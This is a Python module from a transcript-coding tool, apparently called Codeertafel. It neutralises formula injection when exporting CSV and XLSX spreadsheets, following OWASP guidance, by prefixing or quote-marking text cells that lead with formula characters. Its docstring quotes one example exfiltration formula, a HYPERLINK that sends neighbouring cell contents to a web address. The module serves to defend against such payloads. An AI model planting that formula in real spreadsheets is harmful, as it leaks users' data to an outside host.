"""Writing spreadsheets (.csv, .xlsx) so that text from transcripts stays text.

Every spreadsheet Codeertafel writes goes through this module. Transcripts, code names,
memos and document names come from users and from other people's files; a cell that
starts with ``=``, ``+``, ``-`` or ``@`` (or a tab or carriage return) is read as a formula
by Excel and LibreOffice, and a formula can fetch a web address with the neighbouring
cells in it (``=HYPERLINK("http://…?leak="&A2, …)``). So, following the OWASP guidance on
CSV injection:

* in ``.csv`` such a text cell gets a leading apostrophe (``'=1+1``), which spreadsheet
  programs show as text; numbers stay numbers;
* in ``.xlsx`` every text cell is stored as a string, never as a formula, and a
  formula-leading one is marked "quote prefix", so editing it in Excel keeps it text;
  control characters an ``.xlsx`` file cannot hold are dropped and a text longer than a
  cell can hold (32,767 characters) is cut.

Parquet files are data for analysis scripts, not spreadsheets: they keep the raw text.
"""

from __future__ import annotations

import csv
import math
import re
from collections.abc import Iterable, Sequence
from pathlib import Path
from typing import IO, TYPE_CHECKING

from coder.export.files import write_atomically

if TYPE_CHECKING:
    import pandas as pd

FORMULA_LEADERS = ("=", "+", "-", "@", "\t", "\r")
EXCEL_CELL_LIMIT = 32_767  # characters in one cell
# The characters openpyxl refuses (openpyxl.cell.cell.ILLEGAL_CHARACTERS_RE), repeated
# here so that writing a .csv does not import openpyxl.
_ILLEGAL_IN_XLSX = re.compile(r"[\000-\010]|[\013-\014]|[\016-\037]")

Header = Sequence[object]
Rows = Iterable[Sequence[object]]


def is_formula_leading(value: object) -> bool:
    return isinstance(value, str) and value.startswith(FORMULA_LEADERS)


def csv_cell(value: object) -> object:
    """The value as a CSV cell: formula-leading text gets an apostrophe; None is empty."""
    if value is None or (isinstance(value, float) and math.isnan(value)):
        return ""
    if is_formula_leading(value):
        return "'" + str(value)
    return value


def xlsx_text(value: str) -> str:
    """Text without the characters an .xlsx cell cannot hold, cut to the cell limit."""
    value = _ILLEGAL_IN_XLSX.sub("", value)
    if len(value) > EXCEL_CELL_LIMIT:
        value = value[: EXCEL_CELL_LIMIT - 1] + "…"
    return value


def write_csv_rows(handle: IO[str], header: Header, rows: Rows) -> None:
    """Write a header and rows to an open text file, every cell through :func:`csv_cell`."""
    writer = csv.writer(handle)
    writer.writerow([csv_cell(cell) for cell in header])
    writer.writerows([csv_cell(cell) for cell in row] for row in rows)


def write_csv(
    path: str | Path,
    header: Header,
    rows: Rows,
    *,
    force: bool = False,
    encoding: str = "utf-8-sig",
) -> Path:
    """A .csv file (UTF-8 with BOM by default, so Excel on Windows opens Dutch text intact)."""
    return write_atomically(
        path,
        lambda handle: write_csv_rows(handle, header, rows),
        force=force,
        encoding=encoding,
        newline="",
    )


def _plain_value(value: object) -> object:
    """numpy scalars as Python values, NaN as an empty cell."""
    if hasattr(value, "item") and not isinstance(value, (str, bytes)):
        value = value.item()
    if isinstance(value, float) and math.isnan(value):
        return None
    return value


def frame_rows(
    frame: pd.DataFrame, *, index: bool = False
) -> tuple[list[object], list[list[object]]]:
    """A DataFrame as a header and rows of plain Python values (the index first if asked)."""
    header: list[object] = list(frame.columns)
    if index:
        header.insert(0, frame.index.name or "")
    rows = [
        [_plain_value(v) for v in ((key, *values) if index else values)]
        for key, *values in frame.itertuples(index=True, name=None)
    ]
    return header, rows


def write_xlsx_sheets(handle: IO[bytes], sheets: Sequence[tuple[str, Header, Rows]]) -> None:
    """Write sheets (name, header, rows) as an .xlsx workbook in which no cell is a formula."""
    from openpyxl import Workbook
    from openpyxl.styles import Font

    workbook = Workbook()
    workbook.remove(workbook.active)
    bold = Font(bold=True)
    for name, header, rows in sheets:
        sheet = workbook.create_sheet(title=name)
        for row_number, row in enumerate([header, *rows], start=1):
            for column_number, value in enumerate(row, start=1):
                cell = sheet.cell(row=row_number, column=column_number)
                value = _plain_value(value)
                if isinstance(value, str):
                    value = xlsx_text(value)
                cell.value = value
                if isinstance(value, str):
                    cell.data_type = "s"  # openpyxl makes "=…" a formula; it is text
                    if is_formula_leading(value):
                        cell.quotePrefix = True
                if row_number == 1:
                    cell.font = bold
    workbook.save(handle)


def write_xlsx(
    path: str | Path, sheets: Sequence[tuple[str, Header, Rows]], *, force: bool = False
) -> Path:
    return write_atomically(
        path, lambda handle: write_xlsx_sheets(handle, sheets), force=force, binary=True
    )


def write_frame(
    frame: pd.DataFrame,
    path: str | Path,
    *,
    force: bool = False,
    index: bool = False,
    sheet: str = "Codeertafel",
) -> Path:
    """A DataFrame as .csv or .xlsx (by the suffix), neutralised as described above."""
    header, rows = frame_rows(frame, index=index)
    if Path(path).suffix.lower() == ".xlsx":
        return write_xlsx(path, [(sheet, header, rows)], force=force)
    return write_csv(path, header, rows, force=force)
